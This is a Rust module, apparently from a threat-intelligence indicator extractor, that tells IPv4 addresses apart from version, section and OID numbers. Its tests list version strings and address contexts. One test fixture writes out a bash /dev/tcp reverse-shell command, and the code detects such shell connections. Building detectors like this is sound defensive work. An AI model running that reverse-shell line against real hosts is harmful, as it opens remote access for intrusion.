//! What tells a plain dotted quad that is an address from one that is a version, a section or another number.
//!
//! A quad with three small parts (`12.2.1.4`) is a version a thousand times more often than an address, so it is an
//! address only if the text says so: a word for a host beside it, a verb that leads to it (`connects to`), a port or
//! prefix length, a URL around it, a list of indicators that it continues, or a line of its own in such a list. Any other
//! quad is an address unless the text says otherwise (`version`, `fixed in`, `and earlier`).

use std::net::Ipv4Addr;

use super::vocabulary::{
    BOUNDS, FROM_STEMS, LABELS, Link, Sense, TO_STEMS, bare, is_host_word, is_stem,
    is_version_word, link, wide_sense,
};
use super::{Search, is_wide};

/// How far the words before a quad are read, in bytes.
const LOOK_BACK: usize = 96;

/// How far the line before is read, in bytes.
const LINE_BYTES: usize = 200;

impl<'t> Search<'t> {
    /// Whether a dotted quad is a version number (some), and whether only a random address's improbability says so.
    ///
    /// `has_tail` says whether a port or prefix length follows.
    pub(super) fn version(
        &self,
        ip: Ipv4Addr,
        start: usize,
        end: usize,
        has_tail: bool,
    ) -> Option<bool> {
        // A random address has three parts below 32 once in two hundred times; versions begin low, but for browsers'.
        const SMALL: u8 = 31;
        const BROWSERS: u8 = 150;
        const BOTH_LOW: u8 = 20;
        let parts = ip.octets();
        let in_doubt =
            parts[0] <= BROWSERS && parts.iter().filter(|part| **part <= SMALL).count() >= 3;
        let half_in_doubt = in_doubt || (parts[0] <= BOTH_LOW && parts[1] <= BOTH_LOW);
        // A list of versions: `7.0.1.2, 7.0.1.3 and 7.1.0.1`.
        if let Some((last, by_smallness)) = self.last_version
            && (half_in_doubt || !by_smallness)
            && self.continues_a_list(last, start)
        {
            return Some(by_smallness);
        }
        if self.says_version_after(end) {
            return Some(false);
        }
        let sense = self.sense_before(start);
        let is_address = match sense {
            Sense::Version => return Some(false),
            Sense::Address => true,
            Sense::MaybeVersion => !half_in_doubt,
            Sense::Unknown { named } => !(in_doubt || half_in_doubt && named),
        };
        let is_address = is_address
            || has_tail
            || self.before(start).ends_with(b"//")
            || self.is_device(start)
            || (self.claimed > 0 && self.continues_a_list(self.claimed, start))
            || self.says_address_after(end)
            || (sense != Sense::MaybeVersion && self.stands_in_a_list(start, end));
        (!is_address).then_some(true)
    }

    /// `/dev/tcp/192.0.2.1/443`, as shells open connections.
    pub(super) fn is_device(&self, start: usize) -> bool {
        let before = self.before(start);
        before.ends_with(b"/dev/tcp/") || before.ends_with(b"/dev/udp/")
    }

    /// Whether nothing but joints of a list stands between two places.
    pub(super) fn continues_a_list(&self, last: usize, start: usize) -> bool {
        const JOINTS: [&str; 11] =
            ["", "and", "or", "to", "through", "until", "e", "y", "ou", "und", "et"];
        const LONGEST: usize = 10;
        start.checked_sub(last).is_some_and(|gap| gap <= LONGEST)
            && self
                .slice(last, start)
                .split([' ', ',', '-', '/', '\u{2013}', '(', ')', ';', '&', '|', '\t'])
                .all(|joint| JOINTS.contains(&joint))
    }

    fn says_version_after(&self, end: usize) -> bool {
        const LATER: [&str; 45] = [
            "and earlier",
            "or earlier",
            "and later",
            "or later",
            "and below",
            "or below",
            "and prior",
            "or prior",
            "and older",
            "or older",
            "and newer",
            "or newer",
            "and higher",
            "or higher",
            "and above",
            "or above",
            "and up",
            "and before",
            "or greater",
            "and lower",
            "or lower",
            "and onward",
            "e anterior",
            "ou anterior",
            "e posterior",
            "ou posterior",
            "ou superior",
            "e superior",
            "ou mais recente",
            "e inferior",
            "ou inferior",
            "y anterior",
            "o anterior",
            "y posterior",
            "o posterior",
            "o superior",
            "et antérieur",
            "et supérieur",
            "ou supérieur",
            "und früher",
            "und älter",
            "oder höher",
            "release",
            "build",
            "is out",
        ];
        let after = self.after(end);
        let after = after
            .strip_prefix(b" ")
            .or_else(|| after.strip_prefix(b"\xc2\xa0"))
            .unwrap_or_default();
        let after = after.strip_prefix(b"(").unwrap_or(after);
        LATER.iter().any(|word| {
            after.get(..word.len()).is_some_and(|head| {
                std::str::from_utf8(head).is_ok_and(|head| head.to_lowercase() == **word)
            })
        })
    }

    /// `… on port 443`, `… (AS64496)`, `… over TCP`, `… is a C2`.
    fn says_address_after(&self, end: usize) -> bool {
        const AFTER: [&str; 11] =
            ["port", "ports", "porta", "portas", "puerto", "tcp", "udp", "c2", "c&c", "asn", "ip"];
        const WORDS: usize = 4;
        const LONGEST: usize = 48;
        let mut to = (end + LONGEST).min(self.bytes.len());
        while !self.text.is_char_boundary(to) {
            to -= 1;
        }
        let after = self.slice(end, to);
        let after = after.split(['\n', '\r']).next().unwrap_or_default();
        let says = |word: &str| {
            let plain = bare(word);
            let is_system = plain.strip_prefix("as").is_some_and(|number| {
                number.len() >= 2 && number.bytes().all(|byte| byte.is_ascii_digit())
            });
            is_system || plain.starts_with("resolv") || AFTER.contains(&plain.as_str())
        };
        for word in after.split_whitespace().take(WORDS) {
            if word.split(',').any(says) {
                return true;
            }
            if word.ends_with(['.', ';', ',']) {
                return false;
            }
        }
        false
    }

    /// The words before a place in the same line and sentence, the nearest first.
    pub(super) fn words_before(&self, start: usize) -> impl Iterator<Item = &'t str> + use<'t> {
        const ABBREVIATION: usize = 4;
        let mut from = start.saturating_sub(LOOK_BACK);
        while !self.text.is_char_boundary(from) {
            from += 1;
        }
        let near = self.slice(from, start);
        let near = near.rsplit(['\n', '\r']).next().unwrap_or_default();
        near.rsplit(|letter: char| {
            letter.is_whitespace() || matches!(letter, '(' | '"' | '|' | '\u{201c}')
        })
        .filter(|word| !word.is_empty())
        .take_while(|word| {
            !(word.ends_with(['.', '!', '?', ';', '\u{3002}'])
                && word.chars().count() > ABBREVIATION)
        })
    }

    fn sense_before(&self, start: usize) -> Sense {
        const WORDS: usize = 8;
        const UNKNOWN: usize = 2;
        let mut linked = Link::Direct;
        let mut unknown = 0;
        let mut named = false;
        let mut words = self.words_before(start).take(WORDS).peekable();
        while let Some(word) = words.next() {
            let plain = bare(word);
            if plain.is_empty() {
                if word.contains(['<', '>', '=', '~', '^', '\u{2264}', '\u{2265}']) {
                    return Sense::MaybeVersion;
                }
                continue;
            }
            if word.chars().any(is_wide) {
                return wide_sense(word);
            }
            // `root@192.0.2.1`: what the user does says more.
            if word.ends_with('@') {
                continue;
            }
            if unknown == 0 && BOUNDS.contains(&plain.as_str()) {
                return Sense::MaybeVersion;
            }
            if let Some(found) = link(&plain) {
                if linked == Link::Direct && unknown == 0 {
                    linked = found;
                }
                continue;
            }
            if is_version_word(&plain) {
                return match linked {
                    Link::Direct | Link::Is | Link::In | Link::To => Sense::Version,
                    Link::At | Link::From => Sense::MaybeVersion,
                };
            }
            let is_label = unknown == 0
                && linked == Link::Direct
                && word.ends_with([':', '='])
                && LABELS.contains(&plain.as_str());
            let is_host = match linked {
                _ if is_label => true,
                Link::Direct | Link::Is | Link::At => unknown == 0 && is_host_word(&plain),
                Link::In => {
                    unknown == 0
                        && is_stem(
                            &[
                                "hosped", "host", "aloj", "locali", "located", "control",
                                "comando", "servidor", "painel",
                            ],
                            &plain,
                        )
                }
                Link::To => is_stem(&TO_STEMS, &plain),
                Link::From => is_stem(&FROM_STEMS, &plain),
            };
            if is_host && !is_product(word, words.peek()) {
                return Sense::Address;
            }
            if unknown == 0 && linked == Link::Direct {
                named = word.starts_with(char::is_uppercase) && !word.ends_with(':');
            }
            unknown += 1;
            if unknown > UNKNOWN || !matches!(linked, Link::To | Link::From) {
                break;
            }
        }
        if linked == Link::In { Sense::MaybeVersion } else { Sense::Unknown { named } }
    }

    /// Whether a quad that has its line or cell to itself stands there as an indicator does.
    fn stands_in_a_list(&self, start: usize, end: usize) -> bool {
        let is_ornament = |letter: char| {
            letter.is_whitespace()
                || matches!(
                    letter,
                    '-' | '*'
                        | ','
                        | ';'
                        | '.'
                        | '|'
                        | '"'
                        | '\''
                        | '('
                        | ')'
                        | '['
                        | ']'
                        | '`'
                        | '\u{2022}'
                        | '\u{b7}'
                        | '\u{2013}'
                        | '\u{2014}'
                        | '\u{201c}'
                        | '\u{201d}'
                )
        };
        let ends_cell = |letter: char| matches!(letter, '\n' | '\r' | '\t' | '|');
        let (before, after) = (self.text_before(start), self.text_after(end));
        let own_before = before.rsplit(ends_cell).next().unwrap_or_default();
        let own_after = after.split(ends_cell).next().unwrap_or_default();
        // A list may be numbered.
        let is_number = own_before.trim().trim_end_matches(['.', ')', '#', ':']);
        if !(own_before.chars().all(is_ornament)
            || (is_number.len() <= 3 && is_number.bytes().all(|byte| byte.is_ascii_digit())))
            || !own_after.chars().all(is_ornament)
        {
            return false;
        }
        let earlier = before.get(..before.len() - own_before.len()).unwrap_or_default();
        let mut line_end = start - own_before.len();
        let mut lines = earlier.rsplit(ends_cell).map(|line| {
            let end = line_end;
            line_end = (line_end - line.len()).saturating_sub(1);
            (line, end)
        });
        let Some((line, line_end)) = lines.find(|(line, _)| !line.chars().all(is_ornament)) else {
            // The first of a list, or all there is.
            let next = after.split(ends_cell).map(|line| line.trim_matches(is_ornament));
            return next
                .filter(|line| !line.is_empty())
                .map(|line| line.parse::<Ipv4Addr>().is_ok())
                .next()
                .unwrap_or(true);
        };
        if self.claimed > 0 && (line_end - line.len()..=line_end).contains(&self.claimed) {
            return true;
        }
        let words: Vec<String> = line.split_whitespace().map(bare).collect();
        words.iter().any(|word| is_host_word(word))
            && !words.iter().any(|word| is_version_word(word))
    }

    fn text_before(&self, start: usize) -> &'t str {
        let mut from = start.saturating_sub(LINE_BYTES);
        while !self.text.is_char_boundary(from) {
            from += 1;
        }
        self.slice(from, start)
    }

    pub(super) fn text_after(&self, end: usize) -> &'t str {
        let mut to = (end + LINE_BYTES).min(self.bytes.len());
        while !self.text.is_char_boundary(to) {
            to -= 1;
        }
        self.slice(end, to)
    }
}

/// `WebLogic Server`, `Access Gateway`: a word for a host as the last of a product's name.
fn is_product(word: &str, before: Option<&&str>) -> bool {
    let is_title = |word: &str| {
        let mut letters = word.chars();
        letters.next().is_some_and(char::is_uppercase) && letters.any(char::is_lowercase)
    };
    if !is_title(word) || word.ends_with(':') {
        return false;
    }
    before.is_some_and(|before| {
        before.starts_with(|letter: char| letter.is_uppercase() || letter.is_ascii_digit())
            || before.contains(char::is_uppercase)
    }) && before.is_none_or(|before| {
        !is_host_word(&bare(before))
            && !matches!(*before, "The" | "A" | "Team" | "Command" | "Control")
    })
}

#[cfg(test)]
mod tests {
    use crate::extract;

    /// Versions, sections and other numbers, none of which is an address.
    const VERSIONS: [&str; 90] = [
        "Affected: WebLogic Server 12.2.1.4",
        "LibreOffice/26.8.0.3",
        "vCenter Server 7.0.3.1",
        "please upgrade to package version 11.7.31.9",
        "The flaw was fixed in 9.18.24.1.",
        "Users of libfoo 5.11.7.14 should move to 5.11.7.15.",
        "The plugin 1.3.4.0 is not affected.",
        "Engine: QuayDAV .Net v3.1.1.107",
        "gate-base-1.3.4.0-19.el7",
        "5.11.7.14-store-release",
        "v45.9.148.3",
        "v. 45.9.148.3",
        "version 45.9.148.3",
        "Version: 45.9.148.3",
        "version number 45.9.148.3",
        "versions 45.9.148.3 and 45.9.148.7",
        "versão 45.2.3.4",
        "na versão 12.2.3.4 do produto",
        "corrigido na 7.4.2.1",
        "corrigida na versão 7.4.2.1",
        "atualize para 7.4.2.1 o quanto antes",
        "atualizado para a 8.1.2.3",
        "a falha afeta o produto até 7.4.2.1",
        "versões anteriores a 7.4.2.1",
        "o pacote foo 1.9.8.7 está vulnerável",
        "7.4.2.1 e anteriores",
        "7.4.2.1 ou superior",
        "lançada a 7.4.2.1",
        "seção 4.3.2.1 do documento",
        "cláusula 4.3.2.1",
        "corregido en la 7.4.2.1",
        "actualice a 7.4.2.1",
        "versión 7.4.2.1",
        "corrigé dans la 7.4.2.1",
        "behoben in 7.4.2.1",
        "исправлено в версии 7.4.2.1",
        "已在版本7.4.2.1中修复",
        "バージョン7.4.2.1",
        "section 4.3.2.1",
        "see clause 8.2.1.3 of the standard",
        "Chapter 8.2.1.3",
        "Table 8.2.1.3",
        "§ 8.2.1.3",
        "OID 2.5.29.17 and 1.3.6.1",
        "1.3.6.1.4.1.311",
        "Chrome/120.0.0.0 Safari/537.36",
        "Chrome 120.0.6099.109",
        "Mozilla/5.0 Chrome/99.0.1.2",
        "Firefox 115.7.0.2 ships with it",
        "firmware 84.45.100.12",
        "Firmware version 1.0.2.86",
        "build 45.9.148.3",
        "(build 45.9.148.3)",
        "Build: 3.0.1.107",
        "before 12.2.1.4",
        "prior to 12.2.1.4",
        "earlier than 12.2.1.4",
        "through 12.2.1.4",
        "up to 12.2.1.4",
        "since 12.2.1.4",
        "< 12.2.1.4",
        "<= 12.2.1.4",
        "\u{2264} 12.2.1.4",
        "~> 12.2.1.4",
        "12.2.1.4 and earlier",
        "45.9.148.3 and earlier",
        "45.9.148.3 or later",
        "12.2.1.4 (and below)",
        "patched in 45.9.148.3",
        "Upgrade the server to 7.4.2.1",
        "update your DNS server to 9.18.24.1",
        "upgrade to 45.9.148.3",
        "the hotfix 45.9.148.3",
        "downgraded from 12.2.1.4",
        "migrating from 12.2.1.4 to 12.2.1.5",
        "Oracle HTTP Server 12.2.1.4",
        "NetScaler Gateway 13.1.4.2",
        "SQL Server 15.0.20.4",
        "Adobe Connect 12.4.1.2",
        "Acme Access Gateway 7.2.1.3 is vulnerable",
        "iTunes 12.13.1.3, 12.13.1.4 and 12.13.2.1",
        "org.runner:2.19.1.0",
        "tool==2.19.1.0",
        "\"foo\": \"^2.19.1.0\"",
        "foo@2.19.1.0",
        "foo_2.19.1.0_amd64.deb",
        "foo-2.19.1.0.tar.gz",
        "5.11.7.14-1ubuntu2",
        "5.11.7.14+dfsg1",
        "The 5.11.7.14 release is out",
    ];

    /// Addresses, each found, with `5.11.7.14` where the number alone would say version.
    const ADDRESSES: [&str; 97] = [
        "The C2 is @",
        "C2: @",
        "C2 server @",
        "C&C server at @",
        "its command server at @",
        "the IP address @",
        "IP: @",
        "IP=@",
        "IPs @",
        "The IP @ is shared",
        "address @",
        "addresses: @",
        "endereço @",
        "endereço IP @",
        "o IP @ foi bloqueado",
        "servidor @",
        "conecta ao servidor @",
        "conecta-se a @",
        "comunica com @",
        "comunicação com @",
        "tráfego para @",
        "requisições de @",
        "hospedado em @",
        "envia dados para @",
        "baixa o arquivo de @",
        "dirección @",
        "se conecta a @",
        "adresse @",
        "адрес @",
        "сервер @",
        "从@下载",
        "服务器地址@",
        "IP地址为@",
        "connects to @",
        "connected back to @",
        "connecting to the remote host @",
        "connections to @",
        "communicates with @",
        "beacons to @",
        "beacon: @",
        "contacts with @",
        "sends data to @",
        "exfiltrated credentials to @",
        "traffic to @",
        "traffic from @",
        "requests from @",
        "downloads a script from @",
        "scans from @",
        "brute force attempts from @",
        "logins from @",
        "attacks originating from @",
        "resolves to @",
        "resolved to @ yesterday",
        "points to @",
        "redirects to @",
        "hosted at @",
        "hosted on @",
        "located at @",
        "listening on @",
        "host @",
        "hosts @",
        "host=@",
        "src=@",
        "dst @",
        "DNS @",
        "DNS server @",
        "DNS: @",
        "resolver @",
        "nameserver @",
        "gateway @",
        "proxy @",
        "tor node @",
        "ping @",
        "curl @",
        "wget @",
        "ssh root@@",
        "nslookup @",
        "tcp @",
        "bash -i >& /dev/tcp/@/22 0>&1",
        "Source: @",
        "Command and control: @",
        "reached out to @",
        "@ resolves to it",
        "@,C2,2024",
        "IPs such as @",
        "http://@/x",
        "https://@",
        "@:443",
        "@:8080 was seen",
        "@/24",
        "@ on port 443",
        "@ (AS64496)",
        "@ is the C2",
        "45.9.148.3, @",
        "evil[.]com (@)",
        "Indicators:\n- @",
        "evil[.]com\n@\n",
    ];

    #[test]
    fn no_version_is_an_address() {
        let texts = VERSIONS.iter().flat_map(|text| {
            [text.to_string(), format!("It runs. {text}\nNext"), format!("{text}.")]
        });
        let wrong: Vec<String> =
            texts.filter(|text| !extract(text).indicators.is_empty()).collect();
        assert_eq!(wrong, [""; 0]);
    }

    #[test]
    fn addresses_are_found() {
        let mut missed = Vec::new();
        for pattern in ADDRESSES {
            for address in ["5.11.7.14", "8.8.8.8", "45.9.148.30", "203.0.113.7", "192.0.2.1"] {
                let text = match pattern {
                    "ssh root@@" => format!("ssh root@{address}"),
                    _ => pattern.replace('@', address),
                };
                for text in [text.clone(), format!("It runs. {text}.")] {
                    let found = extract(&text).indicators;
                    let is_there = found.iter().any(|found| {
                        found
                            .value
                            .strip_prefix(address)
                            .is_some_and(|rest| rest.is_empty() || rest.starts_with(':'))
                            || (pattern == "@/24" && found.value.ends_with(".0/24"))
                    });
                    if !is_there {
                        missed.push(text);
                    }
                }
            }
        }
        assert_eq!(missed, [""; 0]);
    }

    /// What is no address for sure is one without further words when its parts are as large as those of most addresses.
    #[test]
    fn other_quads_are_addresses() {
        for text in [
            "Seen: 45.9.148.3",
            "The actor used 45.9.148.3 again",
            "Hetzner 95.216.33.7",
            "45.9.148.3",
            "and 203.0.113.7.",
        ] {
            assert_eq!(extract(text).indicators.len(), 1, "{text}");
        }
    }
}
